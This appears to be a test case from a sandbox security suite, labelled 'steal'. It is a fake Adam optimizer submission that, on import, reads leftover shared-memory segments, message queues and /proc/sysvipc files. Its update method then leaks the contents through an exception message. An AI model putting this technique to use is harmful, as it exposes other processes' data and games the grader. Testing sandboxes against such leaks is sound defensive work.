# expect: wrong error
# family: steal
# exercise: adam
# Looks for shared memory, semaphores and message queues that somebody left.
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
FOUND = []
if True:
    for key in range(20):
        number = libc.shmget(0x5EC0 + key, 0, 0)
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(number, None, 0o10000) if number >= 0 else None
        if place and place != ctypes.c_void_p(-1).value:
            FOUND.append(ctypes.string_at(place, 64))
    for folder in ("/dev/shm", "/dev/mqueue", "/proc/sysvipc"):
        try:
            FOUND += [path.read_bytes() for path in Path(folder).iterdir() if path.is_file()]
        except OSError as error:
            print(error)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        raise LookupError(repr(FOUND))
